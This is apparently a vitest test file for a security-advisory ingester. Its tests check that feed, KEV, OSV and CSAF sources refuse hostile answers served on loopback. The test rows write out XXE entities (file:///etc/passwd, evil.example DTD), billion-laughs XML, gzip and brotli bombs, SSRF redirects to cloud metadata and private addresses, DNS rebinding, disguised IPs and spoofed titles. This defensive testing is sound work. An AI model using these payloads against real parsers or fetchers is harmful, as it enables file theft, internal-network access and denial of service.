// Hostile input over a real https server on loopback: each row gets a clear answer, and the next good source still works.

import { readFileSync } from 'node:fs'
import type { ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { createServer } from 'node:tls'
import { brotliCompressSync, constants, gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { createChecker, createCsafSource } from '../../adapters/sources/csaf/index.ts'
import { createFeedReader, createFeedSource } from '../../adapters/sources/feed/index.ts'
import { createKevReader, createKevSource, parseFile as parseCatalogue } from '../../adapters/sources/kev/index.ts'
import { createOsvReader, createOsvSource } from '../../adapters/sources/osv/index.ts'
import type { Batch, BulletinSource } from '../../src/ports.ts'
import { fixtureFile } from '../support/csaf.ts'
import { bytes, rss } from '../support/feed.ts'
import { type Handler, httpsServer, LOOPBACK, type Page, type TestServer, testHttp } from '../support/https-server.ts'

const NOW = new Date('2026-11-25T12:00:00Z')
const LIMITS = { totalMs: 4_000, idleMs: 1_500, connectMs: 3_000, redirects: 3 }
const addresses = new Map<string, () => readonly string[]>()
const http = testHttp(LIMITS, async (host) => addresses.get(host)?.() ?? ['127.0.0.1'])
const feeds = createFeedReader()
const catalogues = createKevReader()
const records = createOsvReader()
const checker = createChecker()
let server: TestServer
let selfSigned: TestServer
beforeAll(async () => {
  ;[server, selfSigned] = await Promise.all([httpsServer(), httpsServer('self-signed')])
})
afterAll(async () => {
  await Promise.all([server, selfSigned, http, feeds, catalogues, records, checker].map((one) => one.close()))
})

const common = { name: 'x', everyMinutes: 60, maxMegabytes: 1, allowNetworks: LOOPBACK, silentDays: null }
const clock = { now: () => NOW }
const feed = (url: string, allowNetworks: readonly string[] = LOOPBACK): BulletinSource =>
  createFeedSource(
    { ...common, kind: 'feed', id: 'feed', url, publisher: 'Vendor', domains: ['vendor.example'], allowNetworks: [...allowNetworks] },
    { http, reader: feeds, clock },
  )
const kev = (): BulletinSource =>
  createKevSource({ ...common, kind: 'kev', id: 'kev', url: server.at('/kev') }, { http, reader: catalogues, clock })
const take = (source: BulletinSource, cursor: string | null = null): Promise<Batch> => source.fetch(cursor, new AbortController().signal)

/** What came of it: `items: N`, or the code and the sentence of the fault. */
const outcome = (source: BulletinSource, cursor: string | null = null): Promise<string> =>
  take(source, cursor).then(
    ({ documents, exploited }) => (exploited ? `entries: ${exploited.entries.length}` : `items: ${documents.length}`),
    (error: unknown) => (error instanceof Error && 'code' in error ? `${String(error.code)}: ${error.message}` : `RAW ${String(error)}`),
  )

const GOOD = rss({
  title: 'USN-1-1: OpenSSL vulnerabilities',
  link: 'https://vendor.example/1',
  guid: '1',
  date: 'Wed, 16 Sep 2020 13:58:04 +0000',
})
/** The link's port must be the feed's. */
const good = (): string => GOOD.replace('vendor.example/1', `${server.host}/1`)

const answering =
  (headers: Readonly<Record<string, string>>, body: string | Uint8Array, status = 200): Handler =>
  (_, response) =>
    void response.writeHead(status, headers).end(body)
const redirecting = (location: string): Handler => answering({ location }, '', 302)
const drip = (response: ServerResponse, text: string, everyMs: number): void => {
  const timer = setInterval(() => response.write(text), everyMs)
  response.on('close', () => clearInterval(timer))
}

const megabyte = Buffer.alloc(1_000_000, 0x20)
const laughs = `<!DOCTYPE r [<!ENTITY l0 "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}]><rss>&l9;</rss>`
const quadratic = `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(50_000)}">]><rss>${'&a;'.repeat(20_000)}</rss>`

type Row = readonly [string, () => Page, string]

describe('an answer that is no good feed', () => {
  test.each<Row>([
    ['empty', () => '', 'SOURCE_FAILED: vendor.example:PORT answered with nothing instead of a feed.'],
    ['blank', () => ' \n', 'There is no XML in it.'],
    [
      'a web page',
      () => '<!DOCTYPE html><html><body>Welcome</body></html>',
      'SOURCE_FAILED: vendor.example:PORT answered with a web page instead of a feed.',
    ],
    ['a web page behind a comment', () => '<!-- x --><html></html>', 'answered with a web page instead of a feed'],
    ['404', () => answering({}, 'gone', 404), 'answered with status 404 instead of a feed'],
    ['500', () => answering({}, 'oh', 500), 'answered with status 500 instead of a feed'],
    ['204', () => answering({}, '', 204), 'answered with status 204 instead of a feed'],
    ['JSON', () => '{"items": []}', 'It is JSON, and no JSON Feed'],
    ['another root', () => '<catalog/>', 'Its root is <catalog>, which is no feed.'],
    ['no items', () => rss(), 'answered with a feed that lists nothing'],
    ['no channel', () => '<rss version="2.0"/>', 'no RSS, RDF or Atom with a channel'],
    ['cut off', () => GOOD.slice(0, -20), 'The XML is cut off in a tag.'],
    ['cut off between two tags', () => GOOD.slice(0, -16), 'It is no well-formed XML'],
    ['binary', () => Uint8Array.from({ length: 5_000 }, (_, i) => (i * 7) % 256), 'Its root is something, which is no feed.'],
    ['billion laughs', () => laughs, 'defines entities of its own (DTD)'],
    ['quadratic blow-up', () => quadratic, 'defines entities of its own (DTD)'],
    [
      'an external entity',
      () => '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>',
      'defines entities of its own (DTD)',
    ],
    [
      'a parameter entity',
      () => '<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><rss/>',
      'defines entities of its own (DTD)',
    ],
    ['UTF-16 bomb', () => Buffer.from(`\ufeff${laughs}`, 'utf16le'), 'defines entities of its own (DTD)'],
    ['UTF-7', () => bytes('<?xml version="1.0" encoding="utf-7"?><rss/>'), 'It is written in utf-7, which is not read.'],
    ['nested 100,000 deep', () => `<rss>${'<a>'.repeat(100_000)}`, 'nested more than 40 deep'],
    ['a hundred thousand unclosed titles', () => `<rss><channel><item>${'<title>'.repeat(100_000)}`, 'cut off in <title>'],
    ['an endless tag', () => `<rss ${'a'.repeat(500_000)}`, 'a tag that does not end'],
    [
      'huge',
      () => answering({ 'content-length': '3000000' }, Buffer.alloc(3_000_000, 0x20)),
      'HTTP_TOO_LARGE: https://vendor.example:PORT/hostile announces 3000000 bytes',
    ],
    [
      'huge, without saying so',
      () => (_, response) => void response.write(Buffer.alloc(3_000_000, 0x20)),
      'HTTP_TOO_LARGE: https://vendor.example:PORT/hostile answers with more than the 1 MB',
    ],
    ['a gzip bomb', () => answering({ 'content-encoding': 'gzip' }, gzipSync(Buffer.alloc(200_000_000))), 'HTTP_TOO_LARGE'],
    [
      'a brotli bomb',
      () =>
        answering(
          { 'content-encoding': 'br' },
          brotliCompressSync(Buffer.alloc(50_000_000), { params: { [constants.BROTLI_PARAM_QUALITY]: 1 } }),
        ),
      'HTTP_TOO_LARGE',
    ],
    [
      'gzip in gzip',
      () => answering({ 'content-encoding': 'gzip, gzip' }, gzipSync(gzipSync(megabyte))),
      'packed in a way that was not asked for',
    ],
    ['gzip that is none', () => answering({ 'content-encoding': 'gzip' }, 'plain'), 'the answer is not compressed as it says'],
    [
      'gzip cut off',
      () => answering({ 'content-encoding': 'gzip' }, gzipSync(Buffer.from(GOOD)).subarray(0, 60)),
      'the compressed answer is cut off',
    ],
    ['never a header', () => () => undefined, 'HTTP_TOO_SLOW'],
    ['a header and then nothing', () => (_, response) => void response.writeHead(200).write('<rss>'), 'HTTP_TOO_SLOW'],
    [
      'never-ending, a little at a time',
      () => (_, response) => drip(response, '<!-- -->', 50),
      'HTTP_TOO_SLOW: https://vendor.example:PORT/hostile was not read within 4 s.',
    ],
    ['oversized headers', () => answering({ 'x-long': 'a'.repeat(40_000) }, GOOD), 'its answer has too many headers'],
    [
      'a Content-Length that promises too much',
      () => (_, response) => {
        response.writeHead(200, { 'content-length': '5000' }).write('<rss/>')
        setTimeout(() => response.destroy(), 50)
      },
      'HTTP_FAILED',
    ],
    [
      'a connection that breaks',
      () =>
        ({ socket }) =>
          void socket.destroy(),
      'it broke the connection',
    ],
    ['a redirect to http', () => redirecting('http://vendor.example/'), 'HTTP_REFUSED: http://vendor.example/ is not https.'],
    ['a redirect to a file', () => redirecting('file:///etc/passwd'), 'HTTP_REFUSED'],
    ['a redirect to a private address', () => redirecting('https://10.0.0.1/'), 'is an IP address, not a name'],
    ['a redirect to the metadata service', () => redirecting('https://169.254.169.254/latest/meta-data/'), 'is an IP address, not a name'],
    [
      'a redirect to a name with a private address',
      () => redirecting('https://intranet.vendor.example/'),
      'intranet.vendor.example resolves to 10.0.0.1 (private)',
    ],
    ['a redirect with a password', () => redirecting('https://ana:s3cret@vendor.example/'), 'carries a user name or password'],
    ['a redirect in a circle', () => redirecting('/hostile'), 'leads from one address to the next, more than 3 times'],
    ['a redirect to nowhere', () => answering({}, '', 302), 'HTTP_REFUSED'],
    [
      'a redirect to another publisher',
      () => redirecting(`https://other.example:${server.port}/good`),
      'led to other.example, which is not among the domains',
    ],
  ])('%s', async (_, page, said) => {
    addresses.set('intranet.vendor.example', () => ['10.0.0.1'])
    server.pages.set('/hostile', page()).set('/good', good())
    const story = await outcome(feed(server.at('/hostile')))
    expect(story).toMatch(/^(SOURCE_FAILED|HTTP_[A-Z_]+): [A-Z]?.*\.$/)
    expect(story.replaceAll(String(server.port), 'PORT')).toContain(said)
    expect(story).not.toContain('s3cret')
    // The next source works.
    expect(await outcome(feed(server.at('/good')))).toBe('items: 1')
  })
})

describe('an address that must not be reached', () => {
  test.each<readonly [string, () => string, string]>([
    ['a name with a private address', () => 'https://a.vendor.example/', 'a.vendor.example resolves to 10.0.0.1 (private)'],
    ['several addresses, one of them private', () => 'https://b.vendor.example/', 'b.vendor.example resolves to 192.168.1.1 (private)'],
    ['loopback mapped into IPv6', () => 'https://c.vendor.example/', '::ffff:127.0.0.1 (ipv4 mapped)'],
    ['loopback behind NAT64', () => 'https://d.vendor.example/', '(rfc6052)'],
    ['a public address on another port', () => 'https://e.vendor.example:8443/', 'e.vendor.example:8443 is not the https port'],
    ['an IP address as a number', () => 'https://2130706433/', 'in a disguised way'],
    ['an IP address in octal', () => 'https://0177.0.0.01/', 'in a disguised way'],
    ['an IPv6 address with loopback in it', () => 'https://[::ffff:7f00:1]/', 'is an IP address, not a name'],
    ['an address with a user', () => 'https://vendor.example@evil.example/', 'carries a user name or password'],
    ['a certificate that nobody signed', () => `https://self.vendor.example:${selfSigned.port}/`, 'its certificate is self-signed'],
    ['a certificate for another name', () => `https://elsewhere.example:${server.port}/`, 'its certificate is for another name'],
    ['a port where nobody listens', () => 'https://vendor.example:1/', 'it refuses connections'],
    ['a name that nobody knows', () => 'https://unknown.vendor.example/', 'its name is not known'],
  ])('%s', async (_, url, said) => {
    const unknown = (): never => {
      throw Object.assign(new Error('queryA ENOTFOUND unknown'), { code: 'ENOTFOUND' })
    }
    const table: Readonly<Record<string, () => readonly string[]>> = {
      'a.vendor.example': () => ['10.0.0.1'],
      'b.vendor.example': () => ['93.184.216.34', '192.168.1.1'],
      'c.vendor.example': () => ['::ffff:127.0.0.1'],
      'd.vendor.example': () => ['64:ff9b::7f00:1'],
      'e.vendor.example': () => ['93.184.216.34'],
      'unknown.vendor.example': unknown,
    }
    for (const [name, answer] of Object.entries(table)) addresses.set(name, answer)
    server.pages.set('/good', good())
    expect(await outcome(feed(url()))).toContain(said)
    expect(await outcome(feed(server.at('/good')))).toBe('items: 1')
  })

  test('a resolver that says public first and private later (DNS rebinding) is asked once, and what it said is used', async () => {
    const answers = [['93.184.216.34'], ['127.0.0.1']]
    addresses.set('rebind.vendor.example', () => answers.shift() ?? [])
    server.pages.set('/secret', good())
    // Public, so the port is refused; were it asked again, it would be loopback, and the page would be read.
    expect(await outcome(feed(`https://rebind.vendor.example:${server.port}/secret`, []))).toContain('is not the https port')
    expect(await outcome(feed(`https://rebind.vendor.example:${server.port}/secret`, []))).toContain('resolves to 127.0.0.1 (loopback)')
    expect(server.asked).not.toContain('/secret')
  })

  test('what is no http at all', async () => {
    const tls = (name: string): Buffer => readFileSync(new URL(`../fixtures/tls/${name}`, import.meta.url))
    const odd = createServer({ key: tls('server.key'), cert: tls('server.pem') }, (socket) => {
      socket.on('error', () => undefined)
      socket.end('SSH-2.0-OpenSSH_9.9\r\n')
    })
    await new Promise<void>((resolve) => odd.listen(0, '127.0.0.1', resolve))
    expect(await outcome(feed(`https://vendor.example:${(odd.address() as AddressInfo).port}/`))).toContain('the answer is no proper http')
    odd.close()
  })
})

describe('a feed with hostile items: the good ones are taken, and the texts are harmless', () => {
  const item = (title: string, link = `https://${server.host}/1`, guid = title) => ({ title, link, guid, text: 'x' })

  test.each([
    ['a mention of everybody', '&lt;!channel&gt; @everyone patch now', '<!channel> @everyone patch now'],
    ['a mention of a person', '&lt;@U123&gt; look', '<@U123> look'],
    ['a markdown link', '[click](https://evil.example)', '[click](https://evil.example)'],
    ['bidi controls', 'good\u202egpj.exe\u202c', 'goodgpj.exe'],
    ['zero-width letters', 'Open\u200bSSL\u2060 up\u00addate', 'OpenSSL update'],
    ['NUL bytes', 'Open\0SSL', 'OpenSSL'],
    ['a line break', 'one\n\ntwo', 'one two'],
    ['endless', 'a'.repeat(50_000), `${'a'.repeat(299)}…`],
    ['a prototype', '__proto__', '__proto__'],
    ['scripts', '<script>alert(1)</script>news', '<script>alert(1)</script>news'],
  ])('a title with %s', async (_, title, shown) => {
    server.pages.set('/titles', rss(item(title), item('USN-2-1: good')))
    const source = feed(server.at('/titles'))
    const { documents } = await take(source)
    expect(documents).toHaveLength(2)
    const checked = await Promise.all(documents.map((raw) => source.check(raw, NOW)))
    expect(checked.map((one) => one.bulletin?.title)).toContain(shown)
    expect(checked.flatMap((one) => one.checks).map((one) => one.outcome)).not.toContain('fail')
  })

  test.each([
    ['another host', 'https://evil.example/1'],
    ['a look-alike', 'https://vendor.example.evil.example/1'],
    ['a script', 'javascript:alert(1)'],
    ['a user name', 'https://vendor.example@evil.example/'],
    ['an IP address', 'https://127.0.0.1/'],
  ])('a link to %s: the item is dropped and said', async (_, link) => {
    server.pages.set('/links', rss(item('USN-3-1: bad', link), item('USN-2-1: good')))
    const { documents, dropped } = await take(feed(server.at('/links')))
    expect(documents.map((one) => one.fileName)).toEqual(['usn-2-1.json'])
    expect(dropped).toEqual([
      { fileName: 'usn-3-1.json', reason: expect.stringContaining('not among the domains of the policy'), bytes: expect.anything() },
    ])
    expect(JSON.parse(Buffer.from(dropped[0]?.bytes ?? []).toString('utf8'))).toMatchObject({ title: 'USN-3-1: bad', link })
  })

  test('an item that is listed twice counts once, one without anything is dropped, and a shrunk feed is said', async () => {
    server.pages.set('/odd', rss(item('USN-1-1: a', undefined, 'x'), item('USN-1-1: a', undefined, 'y'), {}, item('USN-2-1: b')))
    const first = await take(feed(server.at('/odd')))
    expect([first.documents.length, first.listed, first.dropped.length]).toEqual([2, 4, 1])
    server.pages.set('/odd', rss(item('USN-2-1: b'), item('USN-4-1: c')))
    const second = await take(feed(server.at('/odd')), first.cursor)
    expect([second.documents.map((one) => one.fileName), second.concern]).toEqual([
      ['usn-4-1.json'],
      'The feed lists 2 items; the last time there were 4.',
    ])
  })

  test.each<readonly [string, Uint8Array]>([
    ['UTF-16 with a byte order mark', Buffer.from('\ufeff<?xml version="1.0" encoding="utf-16"?>', 'utf16le')],
    ['UTF-16 without one', Buffer.from('<?xml version="1.0" encoding="utf-16"?>', 'utf16le')],
    ['Latin-1 declared as UTF-8', Buffer.from('<?xml version="1.0" encoding="utf-8"?>', 'latin1')],
  ])('%s is read', async (name, start) => {
    const coding = name.startsWith('UTF') ? 'utf16le' : 'latin1'
    const body = rss(item('USN-5-1: Zürich')).replace(/^<\?xml.*?\?>/, '')
    server.pages.set('/coded', Buffer.concat([start, Buffer.from(body, coding)]))
    const source = feed(server.at('/coded'))
    const [raw] = (await take(source)).documents
    expect(raw && (await source.check(raw, NOW)).bulletin?.title).toBe('USN-5-1: Zürich')
  })

  test('a feed that does not change is not sent again, and gives nothing', async () => {
    server.pages.set(
      '/same',
      ({ headers }, response) =>
        void (headers['if-none-match'] === '"1"' ? response.writeHead(304).end() : response.writeHead(200, { etag: '"1"' }).end(good())),
    )
    const first = await take(feed(server.at('/same')))
    expect(await take(feed(server.at('/same')), first.cursor)).toEqual({ documents: [], dropped: [], cursor: first.cursor, listed: 1 })
    expect(await outcome(feed(server.at('/same')), 'no cursor of ours')).toBe('items: 1')
  })
})

describe("CISA's catalogue: whole or not at all", () => {
  const entry = (n: number, more: object = {}): object => ({
    cveID: `CVE-2026-${1000 + n}`,
    vendorProject: 'Vendor',
    product: 'Product',
    vulnerabilityName: 'Name',
    dateAdded: '2026-03-01',
    shortDescription: 'x',
    requiredAction: 'x',
    dueDate: '2026-03-22',
    knownRansomwareCampaignUse: 'Known',
    ...more,
  })
  const catalogue = (count: number, more: object = {}): string =>
    JSON.stringify({
      catalogVersion: '2026.03.01',
      dateReleased: '2026-03-01T10:00:00.1234Z',
      count,
      vulnerabilities: Array.from({ length: count }, (_, n) => entry(n)),
      ...more,
    })

  test.each<readonly [string, string, string]>([
    ['a web page', '<html></html>', 'a web page instead of the catalogue'],
    ['nothing', '', 'nothing instead of'],
    ['no JSON', '{"count": 1', 'It is not JSON, or cut off.'],
    ['another shape', '{"vulnerabilities": {}}', 'It has not the shape of the catalogue'],
    ['null', 'null', 'It has not the shape of the catalogue'],
    ['no version', catalogue(2, { catalogVersion: undefined }), 'catalogVersion'],
    ['an empty one', catalogue(0), 'It has not the shape of the catalogue'],
    ['fewer entries than it says', catalogue(20, { count: 21 }), 'It says that it has 21 entries, and has 20.'],
    ['one broken entry', catalogue(2, { vulnerabilities: [entry(1), entry(2, { cveID: 'CVE-1' })] }), 'vulnerabilities.1.cveID'],
    ['an entry twice', catalogue(2, { vulnerabilities: [entry(1), entry(1)] }), 'lists 1 vulnerabilities twice'],
    ['fewer entries than the last time', catalogue(17), 'has 17 entries; the last one had 20'],
    ['an older one than the last', catalogue(20, { dateReleased: '2026-02-01T00:00:00Z' }), 'is known already'],
  ])('%s', async (_, page, said) => {
    server.pages.set('/kev', catalogue(20))
    const { cursor } = await take(kev())
    server.pages.set('/kev', page)
    expect(await outcome(kev(), cursor)).toContain(said)
    server.pages.set('/kev', catalogue(21))
    expect(await outcome(kev(), cursor)).toBe('entries: 21')
  })

  test('in our words; a small retraction is believed; an unchanged one is not there', async () => {
    server.pages.set(
      '/kev',
      (request, response) =>
        void (request.headers['if-none-match'] === '"k"'
          ? response.writeHead(304).end()
          : response.writeHead(200, { etag: '"k"' }).end(catalogue(20))),
    )
    const first = await take(kev())
    expect(first).toMatchObject({
      listed: 20,
      documents: [],
      exploited: {
        version: '2026.03.01',
        releasedAt: '2026-03-01T10:00:00.123Z',
        entries: expect.arrayContaining([expect.objectContaining({ cve: 'CVE-2026-1000', ransomware: 'known', dueOn: '2026-03-22' })]),
      },
    })
    expect(parseCatalogue(bytes(catalogue(20)))).toEqual({ ok: true, catalogue: first.exploited })
    const again = await take(kev(), first.cursor)
    expect([again.exploited, again.listed]).toEqual([undefined, 20])
    server.pages.set('/kev', catalogue(19))
    expect(await outcome(kev(), first.cursor)).toBe('entries: 19')
  })
})

describe('other sources', () => {
  const osv = (): BulletinSource =>
    createOsvSource({ ...common, kind: 'osv', id: 'osv', url: server.at('/osv'), ecosystems: ['npm'] }, { http, reader: records, clock })

  test.each<readonly [string, Page, string]>([
    ['a list that is a web page', '<html></html>', 'a web page instead of the list of npm'],
    ['a list of something else', 'a,b\nc,d\n', 'The list of npm has no records in it.'],
    ['a list with paths for ids', '2026-03-04T05:06:07Z,../../etc/passwd\n', 'The list of npm has no records in it.'],
    ['a list that is quoted for ever', `"${'x'.repeat(10_000)}`, 'SOURCE_FAILED'],
  ])('OSV: %s', async (_, page, said) => {
    server.pages.set('/osv/npm/modified_id.csv', page)
    expect(await outcome(osv())).toContain(said)
  })

  test.each([
    ['no JSON', '<x/>', 'it is no JSON'],
    ['a list', '[]', 'expected object'],
    ['another id than its name', '{"id":"GHSA-2","modified":"2026-03-04T05:06:07Z"}', 'GHSA-2 is kept as GHSA-2.json'],
    ['brackets 100,000 deep', `${'['.repeat(100_000)}${']'.repeat(100_000)}`, 'no OSV record'],
  ])('OSV: a record with %s is held', async (_, page, said) => {
    server.pages.set('/osv/npm/modified_id.csv', '2026-03-04T05:06:07Z,GHSA-1\n').set('/osv/npm/GHSA-1.json', page)
    const [raw] = (await take(osv())).documents
    const failed = raw && (await osv().check(raw, NOW)).checks.filter((one) => one.outcome === 'fail').map((one) => one.evidence)
    expect(failed).toEqual([expect.stringContaining(said)])
  })

  test('CSAF: a sidecar that does not match is held, and the next document is read', async () => {
    const csaf = createCsafSource(
      { ...common, kind: 'csaf', id: 'csaf', provider: server.at('/csaf/'), namespaces: ['www.example.com'], idPrefixes: [] },
      { http, checker, clock },
    )
    const name = 'avendor-advisory-0004.json'
    const document = fixtureFile(`gocsaf/${name}`)
    server.pages
      .set('/csaf/changes.csv', `${name},2026-01-01T00:00:00Z\nforged.json,2026-01-02T00:00:00Z\npage.json,2026-01-03T00:00:00Z`)
      .set(`/csaf/${name}`, document)
      .set(`/csaf/${name}.sha512`, fixtureFile(`gocsaf/${name}.sha512`))
      .set('/csaf/forged.json', Buffer.concat([document, Buffer.from(' ')]))
      .set('/csaf/forged.json.sha512', fixtureFile(`gocsaf/${name}.sha512`))
      .set('/csaf/page.json', '<html>Sign in</html>')
    const { documents, dropped } = await take(csaf)
    expect(dropped).toEqual([{ fileName: 'page.json', reason: expect.stringContaining('a web page instead of a CSAF document') }])
    const checked = await Promise.all(documents.map((raw) => csaf.check(raw, NOW)))
    expect(checked.map((one) => one.checks.filter((check) => check.outcome === 'fail').map((check) => check.name))).toEqual([[], ['hash']])
    expect(checked.map((one) => one.bulletin?.vendorId ?? null)).toEqual(['Avendor-advisory-0004', null])
  })
})
